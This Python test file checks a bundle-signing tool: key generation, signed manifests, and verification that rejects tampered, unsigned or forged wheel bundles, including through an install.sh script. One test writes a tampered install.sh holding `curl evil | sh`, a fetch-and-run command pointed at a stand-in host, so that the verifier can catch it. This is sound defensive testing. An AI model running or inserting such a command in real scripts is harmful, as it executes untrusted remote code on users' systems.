"""Signing keys, signed manifests, and `bundle verify` refusing tampered, unsigned and wrongly signed
bundles (a tiny fake wheelhouse: no pip, no network)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from stockade.core.errors import StockadeError
from stockade.operations.bundle_manifest import SIGNATURE_NAME, BundleTampered, verify_bundle
from stockade.operations.install_script import INSTALL_SH
from stockade.operations.signing import SignatureRefused, generate_key_pair
from tests.conftest import run_cli
from tests.operations.bundle_setup import fake_wheelhouse


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Path]:
    folder = tmp_path / "keys"
    folder.mkdir()
    generate_key_pair(folder / "org.key")
    generate_key_pair(folder / "other.key")
    return {
        "private": folder / "org.key",
        "public": folder / "org.key.pub",
        "other_private": folder / "other.key",
        "other_public": folder / "other.key.pub",
    }


def test_keygen_writes_a_private_key_only_its_owner_reads_and_never_overwrites(tmp_path: Path) -> None:
    result = run_cli("bundle", "keygen", "--out", str(tmp_path / "org.key"))
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "org.key").stat().st_mode & 0o777 == 0o600
    assert b"BEGIN PUBLIC KEY" in (tmp_path / "org.key.pub").read_bytes()
    assert b"PRIVATE KEY" in (tmp_path / "org.key").read_bytes()
    assert "fingerprint" in result.stdout
    before = (tmp_path / "org.key").read_bytes()
    again = run_cli("bundle", "keygen", "--out", str(tmp_path / "org.key"))
    assert again.returncode != 0 and "never overwritten" in again.stderr
    assert (tmp_path / "org.key").read_bytes() == before


def test_a_signed_bundle_verifies_against_its_trusted_key(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = fake_wheelhouse(tmp_path / "b", sign_key=keys["private"])
    checked = verify_bundle(bundle, trusted_key=keys["public"])
    manifest = json.loads((bundle / "MANIFEST.json").read_text())
    assert checked.signer == manifest["signed_by"] and checked.files == 4
    wheel = next(f for f in manifest["files"] if f["path"].startswith("wheels/beta"))
    assert (wheel["name"], wheel["version"], wheel["bytes"]) == ("beta-pkg", "2.3.1", 400)


@pytest.mark.parametrize(
    ("damage", "named"),
    [
        (
            lambda b: (b / "wheels/alpha-1.0-py3-none-any.whl").write_bytes(b"evil wheel bytes!"),
            "changed: wheels/alpha",
        ),
        (
            lambda b: (b / "wheels/extra-0.1-py3-none-any.whl").write_bytes(b"x"),
            "not in the manifest: wheels/extra",
        ),
        (lambda b: (b / "requirements.txt").unlink(), "missing: requirements.txt"),
    ],
)
def test_a_tampered_file_is_refused_by_name(
    tmp_path: Path, keys: dict[str, Path], damage, named: str
) -> None:
    bundle = fake_wheelhouse(tmp_path / "b", sign_key=keys["private"])
    damage(bundle)
    with pytest.raises(BundleTampered, match=named):
        verify_bundle(bundle, trusted_key=keys["public"])


def test_unsigned_and_wrongly_signed_bundles_are_refused(tmp_path: Path, keys: dict[str, Path]) -> None:
    unsigned = fake_wheelhouse(tmp_path / "unsigned")
    with pytest.raises(SignatureRefused, match="not signed"):
        verify_bundle(unsigned, trusted_key=keys["public"])
    with pytest.raises(SignatureRefused, match="not signed"):
        verify_bundle(unsigned)
    assert verify_bundle(unsigned, allow_unsigned=True).signer is None  # integrity only, said so

    signed = fake_wheelhouse(tmp_path / "signed", sign_key=keys["private"])
    with pytest.raises(SignatureRefused, match="no trusted key"):
        verify_bundle(signed)
    with pytest.raises(SignatureRefused, match="not by the trusted key"):
        verify_bundle(signed, trusted_key=keys["other_public"])

    # re-signed by another key, claiming the organisation's fingerprint: the signature itself fails
    forged = fake_wheelhouse(tmp_path / "forged", sign_key=keys["other_private"])
    manifest = json.loads((forged / "MANIFEST.json").read_text())
    manifest["signed_by"] = json.loads((signed / "MANIFEST.json").read_text())["signed_by"]
    data = json.dumps(manifest).encode()
    (forged / "MANIFEST.json").write_bytes(data)
    with pytest.raises(SignatureRefused, match="signature does not match"):
        verify_bundle(forged, trusted_key=keys["public"])


def test_a_manifest_changed_after_signing_is_refused(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = fake_wheelhouse(tmp_path / "b", sign_key=keys["private"])
    (bundle / "wheels/alpha-1.0-py3-none-any.whl").write_bytes(b"evil")
    manifest = json.loads((bundle / "MANIFEST.json").read_text())
    entry = next(f for f in manifest["files"] if f["path"].endswith("alpha-1.0-py3-none-any.whl"))
    entry["sha256"], entry["bytes"] = hashlib.sha256(b"evil").hexdigest(), 4  # re-hashed by an attacker
    (bundle / "MANIFEST.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    verify_bundle(bundle, allow_unsigned=True)  # the hashes alone now agree...
    with pytest.raises(SignatureRefused, match="signature does not match"):
        verify_bundle(bundle, trusted_key=keys["public"])  # ...the signature does not


def test_verify_command_exits_non_zero_naming_the_file(tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = fake_wheelhouse(tmp_path / "b", sign_key=keys["private"])
    ok = run_cli("bundle", "verify", str(bundle), "--trusted-key", str(keys["public"]))
    assert ok.returncode == 0 and "bundle ok" in ok.stdout and "signed by the trusted key" in ok.stdout
    (bundle / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    bad = run_cli("bundle", "verify", str(bundle), "--trusted-key", str(keys["public"]))
    assert bad.returncode == 3 and "changed: install.sh" in bad.stderr and "Traceback" not in bad.stderr
    (bundle / SIGNATURE_NAME).unlink()
    unsigned = run_cli("bundle", "verify", str(bundle), "--trusted-key", str(keys["public"]))
    assert unsigned.returncode == 3 and "not signed" in unsigned.stderr


def test_a_public_key_given_as_signing_key_is_refused(tmp_path: Path, keys: dict[str, Path]) -> None:
    with pytest.raises(StockadeError, match="not an unencrypted PEM private key"):
        fake_wheelhouse(tmp_path / "b", sign_key=keys["public"])


@pytest.mark.skipif(shutil.which("openssl") is None, reason="install.sh checks signatures with openssl")
def test_install_sh_checks_files_and_signature_before_creating_anything(
    tmp_path: Path, keys: dict[str, Path]
) -> None:
    """The script a server without Stockade runs: a tampered or wrongly signed bundle stops it (exit 3)
    before a venv exists; a good one gets past both checks (pip then fails on the fake wheels)."""
    bundle = tmp_path / "b"
    bundle.mkdir()
    script = bundle / "install.sh"
    script.write_text(INSTALL_SH)
    script.chmod(0o755)
    fake_wheelhouse(bundle / "unused")  # the wheel files, moved to the bundle root below
    shutil.move(bundle / "unused" / "wheels", bundle / "wheels")
    shutil.rmtree(bundle / "unused")
    (bundle / "requirements.txt").write_text("alpha==1.0 --hash=sha256:" + "0" * 64 + "\n")
    from stockade.operations.bundle_manifest import write_manifest

    write_manifest(bundle, {"kind": "install", "python": "3.11"}, sign_key=keys["private"])

    def install(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["bash", str(script), "--venv", str(tmp_path / "venv"), "--python", sys.executable,
             "--no-doctor", *args],
            capture_output=True, text=True, env=dict(os.environ), timeout=120, check=False,
        )  # fmt: skip

    wrong = install("--trusted-key", str(keys["other_public"]))
    assert wrong.returncode == 3 and "signature does not match" in wrong.stderr
    assert not (tmp_path / "venv").exists()
    neither = install()
    assert neither.returncode == 2 and "--trusted-key" in neither.stderr

    good = install("--trusted-key", str(keys["public"]))
    assert "signed by the trusted key" in good.stdout and "installing into" in good.stdout
    assert good.returncode != 0  # the fake wheels are not installable: pip itself refuses them
    shutil.rmtree(tmp_path / "venv")

    (bundle / "wheels" / "alpha-1.0-py3-none-any.whl").write_bytes(b"changed")
    tampered = install("--trusted-key", str(keys["public"]))
    assert tampered.returncode == 3 and "changed: wheels/alpha-1.0-py3-none-any.whl" in tampered.stderr
    assert not (tmp_path / "venv").exists()
